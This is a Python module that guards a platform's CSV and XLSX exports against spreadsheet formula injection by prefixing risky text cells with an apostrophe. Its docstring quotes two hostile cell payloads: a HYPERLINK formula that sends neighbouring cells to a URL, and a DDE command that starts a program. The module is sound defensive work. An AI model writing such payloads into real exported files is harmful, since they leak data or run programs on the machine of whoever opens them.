"""Cells of the CSV and XLSX files the platform writes, made safe to open in a spreadsheet.

Names, routes and notes come from officers, company contacts and imports. A text cell that starts with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets skip before reading
one of those) is run as a formula when the file is opened: ``=HYPERLINK("https://…?"&A2, "Voir")``
sends the neighbouring cells away, ``=cmd|' /C calc'!A0`` starts a program (DDE). Such text is written
with a leading apostrophe, the spreadsheets' own mark for "text, not a formula" (OWASP's advice).

Numbers stay numbers: ints, floats, decimals and dates pass untouched, and so does text that is only a
number (``-0.36123``, a longitude in the import template): a negative number is not a formula.

Every writer of a CSV or XLSX file goes through :func:`csv_row` or :func:`xlsx_row` (the engine's
command-line files, which never hold platform data, excepted).
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

__all__ = ["FORMULA_TRIGGERS", "csv_row", "neutralise", "xlsx_row"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def neutralise(value):
    """``value``, or the text with a leading apostrophe when a spreadsheet would run it as a formula.

    >>> neutralise('=1+1'), neutralise('@SUM(A1)'), neutralise('-0.5'), neutralise(-3), neutralise('Scierie')
    ("'=1+1", "'@SUM(A1)", '-0.5', -3, 'Scierie')
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Iterable) -> list:
    """A row for :func:`csv.writer`: formulas neutralised, ``None`` as an empty cell."""
    return ["" if value is None else neutralise(value) for value in values]


def xlsx_row(values: Iterable) -> list:
    """A row for openpyxl: formulas neutralised (openpyxl would store ``=…`` text as a live formula),
    and the control characters XLSX cannot hold replaced by U+FFFD instead of failing the whole file."""
    return [
        ILLEGAL_CHARACTERS_RE.sub("\ufffd", value) if isinstance(value, str) else value
        for value in map(neutralise, values)
    ]
